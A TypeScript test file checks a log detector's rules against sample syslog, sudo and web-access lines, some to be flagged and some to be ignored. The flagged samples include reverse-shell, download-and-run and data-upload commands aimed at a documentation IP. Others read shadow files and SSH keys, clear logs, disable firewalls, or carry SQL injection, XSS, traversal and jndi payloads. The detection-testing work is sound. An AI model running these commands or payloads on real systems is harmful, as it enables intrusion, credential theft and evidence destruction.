import { describe, expect, test } from "vitest";
import { decodeLines } from "../decode.ts";
import type { LogEvent } from "../event.ts";
import { parseEvents } from "../parse-events.ts";
import { findEvidence } from "./find-evidence.ts";

const sys = (rest: string): string => `Mar  4 09:12:33 gate1 ${rest}`;
const run = (command: string): string =>
  sys(`sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=${command}`);
const web = (request: string, status = 404, agent = "Mozilla/5.0"): string =>
  `198.51.100.20 - - [04/Mar/2026:09:12:33 +0000] "${request}" ${status} 312 "-" "${agent}"`;

interface RuleLines {
  readonly rule: string;
  /** What the rule is for, beside the one of find-evidence.test.ts. */
  readonly found: readonly string[];
  /** What shares words with it. */
  readonly left: readonly string[];
}

const LINES: readonly RuleLines[] = [
  {
    rule: "login-failed-tag",
    found: [
      sys("vsftpd[7]: FAIL LOGIN: Client 198.51.100.20"),
      sys("app[7]: incorrect password for kim from 198.51.100.20"),
    ],
    left: [sys("app[7]: password changed for kim"), sys("app[7]: login page rendered in 4 ms")],
  },
  {
    rule: "login-unknown-user",
    found: [
      sys("sshd[7]: Invalid user oracle from 198.51.100.20"),
      sys("imapd[7]: unknown user kim2 from 198.51.100.20"),
    ],
    left: [sys("mailer[7]: user kim was notified"), sys("app[7]: unknown option --user")],
  },
  {
    rule: "ssh-gave-up-before-login",
    found: [
      sys("sshd[7]: Disconnected from invalid user admin 198.51.100.20 port 5022 [preauth]"),
      sys("sshd[7]: Connection reset by authenticating user root 198.51.100.20 port 5022 [preauth]"),
    ],
    left: [
      sys("sshd[7]: Connection closed by 198.51.100.20 port 5022"),
      sys("sshd[7]: Received signal 15; terminating."),
    ],
  },
  {
    rule: "account-created",
    found: [sys("groupadd[9]: new group: name=shop, GID=1009"), run("/usr/sbin/usermod -aG sudo kim2")],
    left: [sys("app[7]: new user interface enabled"), run("/usr/sbin/usermod --help")],
  },
  {
    rule: "job-added",
    found: [sys("crontab[9]: (root) REPLACE (root)"), sys("crontab[9]: (www) REPLACE (www)")],
    left: [
      sys("CRON[9]: (root) CMD (run-parts /etc/cron.hourly)"),
      sys("app[9]: replace filter in 4 places"),
    ],
  },
  {
    rule: "reverse-shell",
    found: [
      run("/bin/nc 198.51.100.20 4444 -e /bin/sh"),
      run("/usr/bin/python3 -c import pty; pty.spawn('/bin/sh')"),
    ],
    left: [run("/bin/nc -z 127.0.0.1 22"), run("/bin/bash /usr/local/bin/backup")],
  },
  {
    rule: "download-and-run",
    found: [
      run("/bin/sh -c wget -qO- http://198.51.100.20/x | bash"),
      run("/bin/sh -c curl http://198.51.100.20/a -o /tmp/a; chmod +x /tmp/a"),
    ],
    left: [run("/usr/bin/wget https://example.org/file.iso"), run("/usr/bin/curl -I https://example.org/")],
  },
  {
    rule: "history-or-log-cleared",
    found: [run("/usr/bin/shred -u /var/log/wtmp"), run("/bin/sh -c echo > /var/log/auth.log")],
    left: [run("/usr/bin/less /var/log/auth.log"), sys("app[7]: history of kim shown")],
  },
  {
    rule: "guard-switched-off",
    found: [run("/usr/sbin/ufw disable"), run("/usr/sbin/setenforce 0")],
    left: [run("/usr/sbin/ufw status"), run("/usr/bin/systemctl status auditd")],
  },
  {
    rule: "set-uid-file",
    found: [run("/bin/chmod 4755 /usr/local/bin/x"), run("/usr/sbin/setcap cap_setuid+ep /usr/bin/python3")],
    left: [run("/bin/chmod 755 /usr/local/bin/x"), run("/bin/chmod u+x /srv/a.sh")],
  },
  {
    rule: "kernel-module",
    found: [run("/sbin/insmod /root/x.ko"), run("/sbin/modprobe dummy")],
    left: [sys("kernel: usbcore: registered new interface driver"), run("/sbin/lsmod")],
  },
  {
    rule: "credentials-read",
    found: [run("/bin/cp /etc/shadow /tmp/s"), run("/bin/tar czf /tmp/k.tgz /root/.ssh/id_rsa")],
    left: [run("/bin/cat /etc/passwd"), run("/bin/cat /root/.ssh/id_rsa.pub")],
  },
  {
    rule: "data-sent-out",
    found: [
      run("/usr/bin/curl -T /srv/db.sql http://198.51.100.20/"),
      run("/usr/bin/rclone copy /srv remote:bucket"),
    ],
    left: [run("/usr/bin/curl -s https://example.org/data"), run("/usr/bin/rsync -a /srv /backup")],
  },
  {
    rule: "web-path-traversal",
    found: [
      web("GET /a?f=../../../../etc/passwd HTTP/1.1"),
      web("GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1"),
    ],
    left: [web("GET /a/b..c.css HTTP/1.1", 200), web("GET /files/etc.html HTTP/1.1", 200)],
  },
  {
    rule: "web-sql-injection",
    found: [
      web("GET /a?id=1'+or+'1'='1 HTTP/1.1"),
      web("GET /a?id=1+UNION+SELECT+password+FROM+users HTTP/1.1"),
    ],
    left: [web("GET /union-square HTTP/1.1", 200), web("GET /a?sort=order+by+date HTTP/1.1", 200)],
  },
  {
    rule: "web-cross-site-scripting",
    found: [
      web("GET /a?q=<script>alert(1)</script> HTTP/1.1"),
      web("GET /a?q=%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1"),
    ],
    left: [web("GET /scripts/app.js HTTP/1.1", 200), web("GET /a?q=script+writing HTTP/1.1", 200)],
  },
  {
    rule: "web-lookup-injection",
    found: [
      web("GET /?x=${jndi:ldap://198.51.100.20/a} HTTP/1.1"),
      web("GET / HTTP/1.1", 200, "${jndi:rmi://198.51.100.20/a}"),
    ],
    left: [web("GET /?x=$%7Bname%7D HTTP/1.1", 200), web("GET /docs/jndi HTTP/1.1", 200)],
  },
  {
    rule: "web-file-probe",
    found: [web("GET /.git/config HTTP/1.1"), web("GET /backup/.env HTTP/1.1")],
    left: [web("GET /git/config HTTP/1.1", 200), web("GET /blog/env HTTP/1.1", 200)],
  },
];

function eventOf(line: string): LogEvent {
  const lines = decodeLines(new TextEncoder().encode(`${line}\n`));
  const [event] = parseEvents(lines, { now: "2026-03-10T00:00:00Z", timeZone: "UTC", isFinal: true }).events;
  if (event === undefined) throw new Error(`no event in ${line}`);
  return event;
}
const ids = (line: string): string[] => findEvidence(eventOf(line)).map(({ id }) => id);

describe.each(LINES)("$rule", ({ rule, found, left }) => {
  test.each(found)("finds %s", (line) => expect(ids(line)).toContain(rule));
  test.each(left)("leaves %s", (line) => expect(ids(line)).not.toContain(rule));
});
